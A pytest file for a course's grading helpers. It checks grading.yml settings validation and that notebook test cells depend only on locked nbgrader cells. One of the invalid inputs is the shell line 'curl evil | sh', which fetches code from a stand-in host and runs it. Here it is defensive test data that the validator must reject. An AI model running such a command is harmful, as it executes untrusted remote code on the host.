"""Unit tests for helpers/grading/facts.py: the grading.yml spec, its graded settings, the cells they protect."""

from __future__ import annotations

import ast
import builtins
from pathlib import Path

import nbformat
import pytest
from IPython.core.inputtransformer2 import TransformerManager

from helpers.errors import CourseError
from helpers.grading.facts import GRADED_SETTINGS, GradingSpec, load_spec

ROOT = Path(__file__).resolve().parents[3]
SOURCE = sorted((ROOT / "source").glob("*/*.ipynb"))


def _spec(tmp_path: Path, text: str) -> GradingSpec:
    folder = tmp_path / "source" / "x"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "grading.yml").write_text(text)
    return load_spec("x", root=tmp_path)


def test_lab3_graded_settings_come_from_its_grading_yml():
    """Does Lab 3's grading.yml hold the severity threshold and the scan source the grade depends on?"""
    spec = load_spec("lab3-security-scan", root=ROOT)
    assert spec.setting("severity_threshold", "x") == "HIGH"
    assert spec.setting("scan_source", "x") == "auto"


def test_graded_settings_are_normalised_and_default(tmp_path):
    """Is a value matched without regard to case, and is the default given when the file does not set it?"""
    spec = _spec(tmp_path, "graded: {severity_threshold: critical}\n")
    assert spec.graded == (("severity_threshold", "CRITICAL"),)
    assert spec.setting("scan_source", "auto") == "auto"
    assert GradingSpec("y").setting("severity_threshold", "HIGH") == "HIGH"


@pytest.mark.parametrize(
    "text",
    [
        "graded: {severity_threshold: SUPER}\n",  # not a severity
        "graded: {severity_threshold: 9}\n",  # not a string
        "graded: {severity_threshold: [HIGH]}\n",
        "graded: {scan_source: 'curl evil | sh'}\n",  # not a scan source
        "graded: {size_limit: 10}\n",  # unknown setting (a typo must not be ignored)
        "graded: [severity_threshold, HIGH]\n",  # not a mapping
        "graded: HIGH\n",
    ],
)
def test_bad_graded_settings_are_a_clear_error(tmp_path, text):
    """Does a graded setting that is unknown, or outside its allowed values, fail load_spec naming the file?"""
    with pytest.raises(CourseError, match="grading.yml"):
        _spec(tmp_path, text)


def test_setting_refuses_a_name_that_is_not_a_graded_setting():
    """Does asking for a setting the spec cannot hold fail loudly instead of returning the default?"""
    with pytest.raises(KeyError):
        GradingSpec("x").setting("threshold", "HIGH")
    assert set(GRADED_SETTINGS) == {"severity_threshold", "scan_source"}


# ------------------------------------------------ cells the test cells depend on are locked (restored at grading)


def _nbgrader(cell) -> dict:
    return cell.metadata.get("nbgrader") or {}


def _code(cell) -> ast.Module:
    """A cell's code as IPython runs it: magics and shell lines (``%matplotlib inline``, ``out = !docker ...``)
    become ``get_ipython()`` calls."""
    return ast.parse(TransformerManager().transform_cell(cell.source))


def _defines(tree: ast.Module) -> set[str]:
    names: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            names.add(node.name)
        elif isinstance(node, (ast.Import, ast.ImportFrom)):
            names.update((a.asname or a.name).split(".")[0] for a in node.names)
        elif isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store):
            names.add(node.id)
    return names


def _reads(tree: ast.Module) -> set[str]:
    return {n.id for n in ast.walk(tree) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Load)}


def _unlocked_dependencies(path: Path) -> list[str]:
    """Names a test cell reads whose last definition before it is an ordinary (unlocked, not solution) cell."""
    nb = nbformat.read(path, as_version=4)
    last: dict[str, object] = {}
    problems = []
    for cell in (c for c in nb.cells if c.cell_type == "code"):
        tree, meta = _code(cell), _nbgrader(cell)
        if meta.get("grade") and not meta.get("solution"):
            for name in sorted(_reads(tree) - _defines(tree) - set(dir(builtins))):
                src = last.get(name)
                if src is not None and not (_nbgrader(src).get("locked") or _nbgrader(src).get("solution")):
                    problems.append(f"{path.name}: test cell {meta['grade_id']!r} reads {name} from cell {src.id}")
        for name in _defines(tree):
            last[name] = cell
    return problems


@pytest.mark.parametrize("path", SOURCE, ids=[p.parent.name for p in SOURCE])
def test_cells_test_cells_depend_on_are_locked(path):
    """Does every name a test cell reads come from a locked cell (restored from the gradebook) or a solution?"""
    assert _unlocked_dependencies(path) == []


@pytest.mark.parametrize("path", SOURCE, ids=[p.parent.name for p in SOURCE])
def test_locked_cells_are_read_only_nbgrader_cells_with_unique_ids(path):
    """Is each locked cell one nbgrader restores (grade_id, schema 3), with ids unique in the notebook?"""
    nb = nbformat.read(path, as_version=4)
    meta = [_nbgrader(c) for c in nb.cells if _nbgrader(c)]
    ids = [m["grade_id"] for m in meta]
    assert len(ids) == len(set(ids))
    for m in meta:
        if m.get("locked"):
            assert m["schema_version"] == 3 and not m.get("solution"), m
    assert sum("parameters" in c.metadata.get("tags", []) for c in nb.cells) == 1


def test_the_dependency_check_finds_an_unlocked_setup_cell(tmp_path):
    """Does the check above fail when a test cell reads a name defined in an ordinary cell, and pass once locked?"""
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("LIMIT = 3"),
        nbformat.v4.new_code_cell("assert 2 < LIMIT", metadata={"nbgrader": {"grade": True, "grade_id": "t"}}),
    ]
    path = tmp_path / "x.ipynb"
    nbformat.write(nb, path)
    assert _unlocked_dependencies(path) == [f"x.ipynb: test cell 't' reads LIMIT from cell {nb.cells[0].id}"]
    nb.cells[0].metadata["nbgrader"] = {"grade": False, "grade_id": "p", "locked": True, "schema_version": 3}
    nbformat.write(nb, path)
    assert _unlocked_dependencies(path) == []
